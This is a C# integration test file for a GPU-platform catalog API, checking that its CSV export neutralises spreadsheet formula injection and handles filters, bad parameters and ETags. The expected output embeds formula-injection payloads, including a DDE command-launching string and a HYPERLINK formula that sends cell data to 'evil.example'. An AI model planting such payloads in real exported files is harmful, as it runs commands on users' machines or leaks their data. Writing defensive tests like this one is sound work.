using System.Net;
using System.Text;

namespace FreeGpuPortal.IntegrationTests.Api;

public sealed class PlatformCsvTests(FormulaInjectionPortal factory) : IClassFixture<FormulaInjectionPortal>
{
    /// <summary>
    /// The whole file for the seed catalog, with the factory's three formula-injection attempts (Gradient's vendor,
    /// a Colab pro, a Kaggle con) neutralised by a leading apostrophe. Records end with CRLF; the pros and cons
    /// inside one cell are separated by LF.
    /// </summary>
    private const string Article = "https://towardsdatascience.com/free-gpus-for-training-your-deep-learning-models-c1ce47863350";

    private const string Expected =
        "Slug,Name,Vendor,Status,Renamed to,GPU models,GPU memory min (GB),GPU memory max (GB),CPUs min,CPUs max,CPU model,"
        + "RAM min (GB),RAM max (GB),Storage min (GB),Storage max (GB),Storage note,Max session min (h),Max session max (h),"
        + "Idle timeout min (min),Idle timeout max (min),Weekly quota,Weekly GPU hours min (h),Weekly GPU hours max (h),"
        + "Weekly quota reset,Features,Pros,Cons,Last verified,Page,GPU source,GPU as of,CPU source,CPU as of,RAM source,RAM as of,"
        + "Storage source,Storage as of,Max session source,Max session as of,Idle timeout source,Idle timeout as of,"
        + "Weekly quota source,Weekly quota as of\r\n"
        + "colab,Google Colab,Google,active,,Tesla P100 (PCIe); Tesla T4; Tesla K80; Tesla P4,8,16,2,2,Intel Xeon 2.3 GHz,"
        + "13,13,15,15,Google Drive,12,12,30,30,no quota,,,,Private notebooks; Free TPU; Cloud storage integration,"
        + "\"'+1+2\nGoogle Drive integration for data storage\nNo usage limits\nPrivate and public notebooks\nLong execution time of 12 hours\","
        + "\"Short idle time of about 30 minutes\nGoogle Drive must be re-mounted and re-authenticated every session\",,http://localhost/platforms/colab," + Article + ",," + Article + ",," + Article + ",," + Article + ",," + Article + ",," + Article + ",," + Article + ",\r\n"
        + "kaggle,Kaggle,Kaggle,active,,Tesla P100 (PCIe),16,16,2,2,Intel Xeon 2.00 GHz,13,13,,,,,,20,20,limited,30,41,"
        + "Resets every Saturday at midnight UTC.,Private notebooks; Background execution; Notebook versioning; Dataset integration; Community comments,"
        + "\"Commit mode runs code in the background\nComments from other users\n16 GB GPU memory, the most of the three platforms\n"
        + "Public and private notebooks\nKaggle datasets\nNotebook versioning\","
        + "\"'@SUM(1+1)*cmd|' /C calc'!A0\nA dynamic weekly GPU quota of at least 30 hours (usually 30–41 hours)\nShort idle time of 20 minutes in interactive GPU mode\",,http://localhost/platforms/kaggle," + Article + ",," + Article + ",," + Article + ",,,,,," + Article + ",," + Article + ",\r\n"
        + "gradient,Paperspace Gradient,\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A1,\"\"Click\"\")\",active,,Quadro M4000,8,8,8,8,"
        + "Intel Xeon E5-2623,30,30,5,5,,6,6,60,360,,,,,,"
        + "\"8 CPUs and 30 GB RAM, the most of the three platforms\nLong idle time of 1–6 hours\","
        + "\"No private notebooks on a free GPU\nThe GPU depends on availability and may be unavailable at peak times\n"
        + "Low GPU memory (8 GB)\nLow storage (5 GB)\",,http://localhost/platforms/gradient," + Article + ",," + Article + ",," + Article + ",," + Article + ",," + Article + ",," + Article + ",,,\r\n";

    [Fact]
    public async Task The_seed_catalog_exports_exactly_the_golden_file_with_formulas_neutralised()
    {
        var response = await factory.CreateClient().GetAsync("/api/v1/platforms.csv");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("utf-8", response.Content.Headers.ContentType?.CharSet);
        Assert.Equal("attachment; filename=free-gpu-platforms.csv", response.Content.Headers.ContentDisposition?.ToString());
        var bytes = await response.Content.ReadAsByteArrayAsync();
        Assert.True(bytes.AsSpan().StartsWith(Encoding.UTF8.Preamble), "a byte order mark, for spreadsheet programs");
        Assert.Equal(Expected, Encoding.UTF8.GetString(bytes.AsSpan(Encoding.UTF8.Preamble.Length)));
    }

    [Fact]
    public async Task No_cell_of_the_export_starts_with_a_formula_character()
    {
        var records = Csv.Parse(await factory.CreateClient().GetStringAsync("/api/v1/platforms.csv?status=all"));

        Assert.Equal(4, records.Count);
        Assert.All(records, r => Assert.Equal(43, r.Count));
        Assert.All(records.SelectMany(r => r), cell => Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r', cell));
        var gradient = records.Single(r => r[0] == "gradient");
        Assert.Equal("'" + FormulaInjectionPortal.HostileVendor, gradient[2]); // the text survives, shown as text
        Assert.StartsWith("'" + FormulaInjectionPortal.HostilePro + "\n", records.Single(r => r[0] == "colab")[25], StringComparison.Ordinal);
        Assert.StartsWith("'" + FormulaInjectionPortal.HostileCon + "\n", records.Single(r => r[0] == "kaggle")[26], StringComparison.Ordinal);
    }

    [Fact]
    public async Task Filters_and_sort_apply_to_the_csv_and_unknown_values_are_empty()
    {
        var records = Csv.Parse(await factory.CreateClient().GetStringAsync("/api/v1/platforms.csv?minGpuMemoryGb=12&gpuMemory=possible&sort=-gpuMemoryGb"));

        Assert.Equal(["colab", "kaggle"], records.Skip(1).Select(r => r[0]));
        var kaggle = records[2];
        var header = records[0].ToList();
        Assert.Equal("", kaggle[header.IndexOf("Storage min (GB)")]);
        Assert.Equal("", kaggle[header.IndexOf("Max session max (h)")]);
        Assert.Equal("", kaggle[header.IndexOf("Last verified")]);
        Assert.Equal("30", kaggle[header.IndexOf("Weekly GPU hours min (h)")]);
        Assert.Equal("41", kaggle[header.IndexOf("Weekly GPU hours max (h)")]);
    }

    [Fact]
    public async Task The_csv_refuses_bad_parameters_with_the_same_problem_details_as_the_json()
    {
        var response = await factory.CreateClient().GetAsync("/api/v1/platforms.csv?minSessionHours=lots");

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        using var problem = System.Text.Json.JsonDocument.Parse(await response.Content.ReadAsStringAsync());
        Assert.Equal("'lots' is not a number", problem.RootElement.GetProperty("errors").GetProperty("minSessionHours")[0].GetString());
    }

    [Fact]
    public async Task The_csv_has_an_etag_and_answers_a_matching_conditional_get_with_304()
    {
        var client = factory.CreateClient();
        var first = await client.GetAsync("/api/v1/platforms.csv");
        var etag = first.Headers.ETag;
        Assert.NotNull(etag);

        using var request = new HttpRequestMessage(HttpMethod.Get, "/api/v1/platforms.csv");
        request.Headers.IfNoneMatch.Add(etag);
        var second = await client.SendAsync(request);

        Assert.Equal(HttpStatusCode.NotModified, second.StatusCode);
        Assert.Empty(await second.Content.ReadAsByteArrayAsync());
    }
}
